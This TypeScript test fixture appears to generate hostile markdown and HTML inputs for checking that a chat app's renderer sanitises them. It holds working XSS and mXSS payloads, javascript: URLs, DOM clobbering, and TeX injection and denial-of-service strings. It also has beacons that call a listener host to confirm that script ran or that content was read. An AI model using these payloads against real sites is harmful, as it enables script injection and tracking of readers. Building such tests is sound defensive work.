// Texts that mean harm, each to be said by an app as it is.
import { attacks } from "../../packages/web/src/components/markdown/unsafe.fixture.ts";

/** What an attack runs when it gets to run. */
export function payload(listener: string): string {
  return `top.pwned=1;fetch('${listener}/ran')`;
}

/** All of them, calling this address. */
export function hostileWords(listener: string): readonly string[] {
  const run = payload(listener);
  const ours = [
    // Pictures, styles and links that would tell who reads.
    `![x](${listener}/a.png) ![x](//${listener.slice(5)}/b.png) <img src="${listener}/c.png" srcset="${listener}/d.png 2x">`,
    `<video src="${listener}/v" autoplay poster="${listener}/p"></video><audio src="${listener}/a" autoplay></audio>`,
    `<picture><source srcset="${listener}/s"><img alt="x"></picture><input type="image" src="${listener}/i"><track src="${listener}/t">`,
    `<table background="${listener}/t"><tr><td background="${listener}/td">x</td></tr></table><body background="${listener}/b">`,
    `<link rel="preconnect" href="${listener}"><link rel="dns-prefetch" href="${listener}"><link rel="prefetch" href="${listener}/f">`,
    `<a href="https://example.org" ping="${listener}/ping">x</a><div style="background:url(${listener}/bg)">x</div>`,
    `<style>@import "${listener}/i.css"; * { background: url(${listener}/u) }</style>`,
    `<svg><style>*{background:url(${listener}/s)}</style><image href="${listener}/i"/><use href="${listener}/u#x"/></svg>`,
    `<object data="${listener}/o"></object><embed src="${listener}/e"><iframe src="${listener}/f" srcdoc="<script>${run}</script>"></iframe>`,
    // What a sanitiser and a browser read in two ways.
    `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${run}">`,
    `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${run}"></style></annotation-xml></math>`,
    `<div><noembed><img title="--&gt;&lt;img src=x onerror=${run}&gt;"></noembed></div>`,
    `<template><img src=x onerror="${run}"></template><slot onslotchange="${run}"></slot>`,
    `<a href="&#x6a;&#x61;vascript&colon;${run}">x</a> [x](java%73cript:${run}) [x](\u0001javascript:${run})`,
    `<img src="x:x" onerror\u000c="${run}"> <img/src=x\u00a0onerror=${run}> <x onclick="${run}" tabindex=1 autofocus onfocus="${run}">x</x>`,
    // Places of ours that a name or a script of no engine could take.
    `<img name="querySelector"><form id="chat-input"></form><a id="root" name="config" href="clobbered:x">x</a>`,
    `\`\`\`html\n</code></pre><img src=x onerror="${run}">\n\`\`\``,
    `\`\`\`"><img src=x onerror=${run}>\nx\n\`\`\``,
    `$\\href{javascript:${run}}{x}$ $$\\includegraphics{${listener}/g.png}$$ $\\url{javascript:${run}}$ $\\class{toast}{x}$`,
    `$$\\def\\x{\\x\\x}\\x$$`,
    // Marks over one letter, as they are and by their names: a browser draws a run of them in a time that grows with its square.
    `Z${"\u0301".repeat(10_000)}algo`,
    `Z${"&#769;".repeat(3_000)}algo`,
    `[^1]\n\n[^1]: <img src=x onerror="${run}"> [x](javascript:${run})`,
    `> [!NOTE] <img src=x onerror="${run}">\n> x\n\n:::tip[<img src=x onerror="${run}">]\nx\n:::`,
  ];
  return [
    ...attacks.map((text) => text.replaceAll("alert(1)", run).replaceAll("https://evil.example", listener)),
    ...ours.map((text) => text.replaceAll("\u0000", "")),
  ];
}
